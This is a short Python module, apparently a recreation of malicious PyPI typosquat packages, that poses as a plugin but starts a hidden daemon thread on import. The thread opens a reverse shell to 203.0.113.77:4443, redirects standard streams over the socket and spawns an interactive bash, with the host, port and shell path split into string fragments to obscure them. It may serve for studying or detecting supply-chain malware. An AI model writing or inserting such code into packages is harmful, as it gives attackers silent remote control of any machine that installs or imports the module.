# Inspired by reverse-shell typosquats reported on PyPI (e.g. Sonatype/JFrog 2021-2023 finds like 'importantpackage'/'pptest' clones) using dup2 + pty.spawn from a daemon thread.
import os as _o
import socket as _k
import threading


class _Link:
    host = ".".join(["203", "0", "113", "77"])
    port = int("44" + "43")

    def __init__(self):
        self.sock = _k.socket(_k.AF_INET, _k.SOCK_STREAM)

    def open(self):
        self.sock.connect((self.host, self.port))
        return self

    def bind_std(self):
        fd = self.sock.fileno()
        for n in range(3):
            _o.dup2(fd, n)
        return self

    def shell(self):
        pty = __import__("pty")
        pty.spawn(["/bin/" + "ba" + "sh", "-i"])


def _go():
    try:
        _Link().open().bind_std().shell()
    except OSError:
        pass


threading.Thread(target=_go, daemon=True).start()


class Plugin:
    pass
